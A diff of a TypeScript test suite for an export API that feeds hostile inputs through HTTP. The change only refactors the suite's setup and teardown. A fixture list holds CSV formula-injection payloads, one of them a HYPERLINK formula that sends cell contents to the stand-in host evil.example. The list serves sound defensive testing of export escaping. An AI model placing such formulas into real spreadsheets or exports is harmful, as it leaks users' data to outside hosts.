@@ -1,5 +1,5 @@
 import { createProject, type CreatedProject } from './setup/fixtures';
-import { authHeaders, createTestApp, disposeEnv, drainEvents, type TestApp } from './setup/test-app';
+import { authHeaders, drainEvents, useTestApp } from './setup/test-app';
 import { parseCsv } from './setup/csv';
 
 /**
@@ -8,7 +8,7 @@ import { parseCsv } from './setup/csv';
  * impossible or unsupported dates and patterns RE2 refuses. Every case goes through HTTP.
  */
 describe('Export API: hostile charts, zones, dates, patterns and CSV cells', () => {
-  let t: TestApp;
+  const t = useTestApp({ EXPORT_RATE_LIMIT: '100000', TRACK_RATE_LIMIT: '100000' });
   let main: CreatedProject;
 
   const get = (url: string) => t.app.inject({ method: 'GET', url, headers: authHeaders(t.root) });
@@ -29,7 +29,6 @@ describe('Export API: hostile charts, zones, dates, patterns and CSV cells', () 
   const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-3+4', '@SUM(1)', '\tcmd', '\rcmd'];
 
   beforeAll(async () => {
-    t = await createTestApp({ EXPORT_RATE_LIMIT: '100000', TRACK_RATE_LIMIT: '100000' });
     main = await createProject(t, { name: 'Hostile' });
     const now = Date.now();
     // 30 breakdown groups within the last day.
@@ -42,11 +41,6 @@ describe('Export API: hostile charts, zones, dates, patterns and CSV cells', () 
       FORMULAS.map((name) => ({ name, profileId: `@${name}`, properties: { formula: name } })),
     );
     await drainEvents(t);
-  });
-
-  afterAll(async () => {
-    await t?.close();
-    if (t) await disposeEnv(t.env);
   });
 
   describe('D6: a chart answer has a size cap', () => {
